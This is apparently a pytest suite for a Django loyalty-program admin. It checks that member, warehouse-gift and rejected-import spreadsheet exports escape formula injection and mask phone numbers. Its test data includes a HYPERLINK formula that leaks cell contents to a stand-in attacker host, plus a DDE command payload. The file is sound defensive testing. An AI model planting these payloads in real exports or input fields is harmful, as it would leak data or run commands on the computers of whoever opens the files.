"""Every file the admin writes for a spreadsheet keeps a member's text as text: a name such as
=HYPERLINK(...) is not run as a formula in Excel or WPS, while numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth.models import Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from loyalty import rewards
from loyalty.adjustments import points_adjust
from loyalty.ledger import account_get_or_create
from loyalty.models import CouponTemplate, Fulfilment
from members.importing.resources import EXPORT_COLUMNS
from members.models import ImportJob
from members.spreadsheets import escape_formula
from tests.factories import MemberFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (LINK, "'" + LINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("张伟", "张伟"),
        ("a=b", "a=b"),
        ("", ""),
        ("-5.00", "-5.00"),  # a negative amount written as text in a CSV stays a number
        ("+8613800138000", "+8613800138000"),
        (Decimal("-5.00"), Decimal("-5.00")),
        (-3, -3),
        (None, None),
    ],
)
def test_escape_formula(value, expected):
    assert escape_formula(value) == expected


@pytest.fixture
def hostile(db):
    return MemberFactory(
        name=LINK, phone="+8613800138000", email="a@example.com", city="@SUM(A1)", imported_spend=Decimal("12.50")
    )


def _export(client, file_format):
    fields = {f"memberexportresource_{key}": "on" for key, _attribute, _zh in EXPORT_COLUMNS}
    response = client.post(reverse("admin:members_member_export"), {"format": file_format, "resource": "0", **fields})
    assert response.status_code == 200
    return response


def test_members_csv_escapes_formulas(admin_client, hostile):
    rows = list(csv.reader(io.StringIO(_export(admin_client, "0").content.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + LINK
    assert cells["city"] == "'@SUM(A1)"
    assert cells["phone"] == "+8613800138000"
    assert cells["total_spend"] == "12.50"


def test_members_xlsx_keeps_text_as_text_and_numbers_as_numbers(admin_client, hostile):
    from import_export.formats.base_formats import XLSX

    from members.importing.resources import EXPORT_FORMATS

    workbook = openpyxl.load_workbook(io.BytesIO(_export(admin_client, str(EXPORT_FORMATS.index(XLSX))).content))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["name"].value == "'" + LINK and row["name"].data_type == "s"
    assert row["city"].value == "'@SUM(A1)" and row["city"].data_type == "s"
    assert row["total_spend"].data_type == "n" and Decimal(str(row["total_spend"].value)) == Decimal("12.5")


def test_the_warehouse_gift_csv_escapes_formulas_and_masks_phones_unless_allowed(client, channel, program, hostile):
    points_adjust(account=account_get_or_create(member=hostile, program=program), points=10000, reason="test")
    rewards.reward_redeem(
        channel=channel,
        member=hostile,
        reward_code="MUG",
        quantity=1,
        redemption_id="=R-1",
        shipping={"name": hostile.name, "phone": hostile.phone, "address": "=上海市静安区南京西路 1601 号"},
    )
    fulfilment = Fulfilment.objects.get()
    user = User.objects.create_user("warehouse", password="Warehouse-2026", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=["view_fulfilment", "export_fulfilment"]))

    def export():
        client.force_login(User.objects.get(pk=user.pk))
        response = client.post(
            reverse("admin:loyalty_fulfilment_changelist"),
            {"action": "export_csv", "_selected_action": [fulfilment.pk]},
        )
        return dict(zip(*csv.reader(io.StringIO(response.content.decode("utf-8-sig"))), strict=True))

    masked = export()  # headers in the operator's language (zh-hans here)
    assert masked["兑换单号"] == "'=R-1" and masked["收件人"] == "'" + LINK
    assert masked["收货地址"] == "'=上海市静安区南京西路 1601 号"
    assert masked["收件人电话"] == "138****8000" and masked["数量"] == "1"
    user.user_permissions.add(Permission.objects.get(codename="view_personal_data"))
    assert export()["收件人电话"] == "+8613800138000"


def test_coupon_batch_csv_is_well_formed(admin_client, program):
    template = CouponTemplate.objects.get(program=program, code="cny10")
    batch = rewards.coupons_issue_batch(template=template, count=3)
    response = admin_client.get(reverse("admin:loyalty_couponbatch_csv", args=[batch.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0] == ["code", "value", "min_spend", "valid_from", "valid_until"]
    codes = sorted(batch.coupons.values_list("code", flat=True))
    assert sorted(row[0] for row in rows[1:]) == codes
    assert {(row[1], row[2]) for row in rows[1:]} == {(str(template.value), str(template.min_spend))}


@pytest.mark.django_db(transaction=True)
def test_the_rejected_rows_file_of_an_import_escapes_formulas(admin_client, eager_tasks):
    out = io.StringIO()
    csv.writer(out).writerows([["name", "phone", "email"], [LINK, "not-a-phone", "x@example.com"]])
    content = out.getvalue().encode()
    admin_client.post(
        reverse("admin:members_member_import"),
        {"file": SimpleUploadedFile("bad.csv", content, content_type="text/csv"), "skip_errors": "on"},
    )
    job = ImportJob.objects.get()
    rejected = admin_client.get(reverse("admin:members_member_import_rejected", args=[job.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(rejected.streaming_content).decode("utf-8-sig"))))
    assert rows[1][0] == "'" + LINK
